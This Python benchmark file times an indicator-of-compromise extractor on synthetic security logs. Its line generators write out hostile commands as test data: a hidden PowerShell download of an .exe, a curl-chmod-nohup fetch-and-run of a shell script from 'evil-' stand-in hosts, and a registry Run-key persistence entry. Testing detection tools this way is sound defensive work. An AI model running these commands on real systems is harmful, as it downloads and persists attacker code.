"""iocextract on distinct lines of 400 bytes, all types."""

from __future__ import annotations

import hashlib
import random
from typing import Callable, Iterator, Tuple

from tests.bench import data
from tests.bench.driver import COMMANDS, REPOSITORY, Contender, compare
from tests.bench.report import Table

ECHO = "raw echo"
STOCK = "stock SDK unchanged"
FIELD = "message"
CONTENDERS = {
    ECHO: Contender(COMMANDS / "raw_echo.py"),
    "iocextract": Contender(REPOSITORY / "bin" / "iocextract.py", (FIELD,)),
}
EVENTS = 20_000
SIZE = 400
_WORDS = (
    *("the", "service", "was", "started", "by", "user", "request", "allowed", "after", "session"),
    *("policy", "closed", "attacker", "moved", "laterally", "with", "stolen", "credentials", "and"),
)
_BROWSER = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/120.0.0.0 Safari/537.36"
)


def tables(rounds: int) -> Iterator[Table]:
    """Measure 20,000 lines of each case in one chunk, and the stock SDK to know the machine by."""
    stock = {STOCK: Contender(COMMANDS / "stock.py")}
    figures = compare(stock, [data.firewall(EVENTS)], EVENTS, rounds)
    yield Table("this machine: 28 columns, 404 bytes", figures, (STOCK,))
    cases: dict[str, Callable[[random.Random, int], str]] = {
        "logs, command lines and report sentences": _mixed,
        "words with four indicators among them": _four,
        "words without indicators": _none,
    }
    for title, make in cases.items():
        draw = random.Random(11)
        lines = [make(draw, number) for number in range(EVENTS)]
        body, first = data.column(FIELD, lines), data.column(FIELD, ["first"])
        figures = compare(CONTENDERS, [body], EVENTS, rounds, first)
        yield Table(f"{SIZE} bytes, {title}", figures, (ECHO,))


def _mixed(draw: random.Random, number: int) -> str:
    """Return the next of ten kinds of lines in turn, filled up as its kind goes on."""
    kind = _KINDS[number % len(_KINDS)]
    line, more = kind(draw, number)
    while len(line) < SIZE:
        line += more(draw)
    return line[:SIZE]


def _field(draw: random.Random) -> str:
    name = draw.choice(("bytes", "duration", "session", "rule", "zone", "policy", "packets"))
    return f" {name}={draw.randrange(99999)}"


def _switch(draw: random.Random) -> str:
    return f" --{draw.choice(_WORDS)}-{draw.choice(_WORDS)}={draw.randrange(999)}"


def _word(draw: random.Random) -> str:
    return f" {draw.choice(_WORDS)}{'.' if draw.random() < 0.1 else ''}"


_Line = Tuple[str, Callable[[random.Random], str]]


def _firewall(draw: random.Random, number: int) -> _Line:
    return (
        f"Jan 12 10:15:{number % 60:02} fw1 : %ASA-6-302013: Built outbound TCP connection "
        f"{number} for outside:{_address(draw)}/443 to inside:{_address(draw)}/51234",
        _field,
    )


def _proxy(draw: random.Random, number: int) -> _Line:
    return (
        f"1700000{number % 1000:03}.123 45 {_address(draw)} TCP_MISS/200 5120 GET "
        f"http://{_name(draw)}/a/{number}/get.php?id={draw.getrandbits(32)} - "
        f'HIER_DIRECT/{_address(draw)} text/html "{_BROWSER}"',
        _field,
    )


def _web(draw: random.Random, number: int) -> _Line:
    return (
        f"{_address(draw)} - - [12/Dec/2025:08:15:{number % 60:02} +0000] "
        f'"GET /shop/item/{number}?ref=mail HTTP/1.1" 200 2326 "https://{_name(draw)}/" '
        f'"{_BROWSER}"',
        _field,
    )


def _dns(draw: random.Random, number: int) -> _Line:
    return (
        f"named[55]: client @0x7f8c{number:08x} {_address(draw)}#53211: "
        f"query: {_name(draw)} IN A +E(0)K",
        _field,
    )


def _mail(draw: random.Random, number: int) -> _Line:
    return (
        f"postfix/smtpd[{number}]: NOQUEUE: reject: RCPT from unknown[{_address(draw)}]: 554 5.7.1 "
        f"Service unavailable; from=<user{number}@{_name(draw)}> to=<info@contoso.com> proto=ESMTP",
        _field,
    )


def _process(draw: random.Random, number: int) -> _Line:
    digest = hashlib.sha256(str(number).encode()).hexdigest().upper()
    return (
        r"Process Create: Image: C:\Windows\System32\cmd.exe CommandLine: cmd.exe /c start "
        rf"{number} "
        rf"User: CORP\u{draw.randrange(800):04} Hashes: MD5={draw.getrandbits(128):032X},"
        rf"SHA256={digest} ParentImage: C:\Users\u{number}\AppData\Local\Temp\run{number}.exe",
        _field,
    )


def _registry(draw: random.Random, number: int) -> _Line:
    return (
        r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run "
        rf"/v Updater{number} /t REG_SZ /d C:\Users\Public\u{draw.randrange(9999)}.exe /f",
        _switch,
    )


def _download(draw: random.Random, number: int) -> _Line:
    return (
        'powershell.exe -NoP -W Hidden -c "(New-Object Net.WebClient).DownloadFile('
        f"'http://{_address(draw)}:8080/{number}.exe','C:\\ProgramData\\w{number}.exe')\"",
        _switch,
    )


def _shell(draw: random.Random, number: int) -> _Line:
    return (
        f"curl -fsSL https://{_name(draw)}/{number}.sh -o /tmp/.x{number}/run.sh && "
        f"chmod +x /tmp/.x{number}/run.sh && nohup /tmp/.x{number}/run.sh >/dev/null 2>&1 &",
        _switch,
    )


def _report(draw: random.Random, number: int) -> _Line:
    return (
        f"The loader fetched hxxps://{_name(draw).replace('.', '[.]')}/b.php?id={number} and "
        f"exploited CVE-2024-{number % 9000 + 1000}; the backdoor beacons to "
        f"{_address(draw).replace('.', '[.]')} on TCP 443.",
        _word,
    )


_KINDS = (
    *(_firewall, _proxy, _web, _dns, _mail),
    *(_process, _registry, _download, _shell, _report),
)


def _address(draw: random.Random) -> str:
    return ".".join(str(draw.randint(1, 223)) for _ in range(4))


def _name(draw: random.Random) -> str:
    top = draw.choice(("com", "net", "top"))
    return f"cdn{draw.randrange(10**6)}.evil-{draw.choice(_WORDS)}.{top}"


def _four(draw: random.Random, number: int) -> str:
    return _line(draw, _indicators(draw, number))


def _none(draw: random.Random, _: int) -> str:
    return _line(draw, [])


def _indicators(draw: random.Random, number: int) -> list[str]:
    found = (
        f"src={_address(draw)}",
        f"hxxp://cdn{number}.evil-example[.]com/a/{number}.php?id={number}",
        f"host{number}.update-service.net",
        f"sha256={hashlib.sha256(str(number).encode()).hexdigest()}",
        f"MD5={draw.getrandbits(128):032x}",
        f"user{number}@mail.example.org",
        rf"C:\Users\u{number}\AppData\Local\Temp\run{number}.exe",
        rf"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\Job{number}",
        f"CVE-2024-{number % 9000 + 1000}",
        f"/opt/.cache/{number}/implant.sh",
        f"2001:db8:{number % 0xFFFF:x}::{draw.getrandbits(16):x}",
    )
    return draw.sample(found, 4)


def _line(draw: random.Random, indicators: list[str]) -> str:
    """Return words with indicators among them, cut at the size."""
    parts = ["2026-06-01T12:00:01Z", f"seq={draw.getrandbits(40)}", *indicators]
    length = sum(map(len, parts)) + len(parts)
    while length < SIZE:
        word = draw.choice(_WORDS)
        parts.insert(draw.randrange(2, len(parts) + 1), word)
        length += len(word) + 1
    return " ".join(parts)[:SIZE]
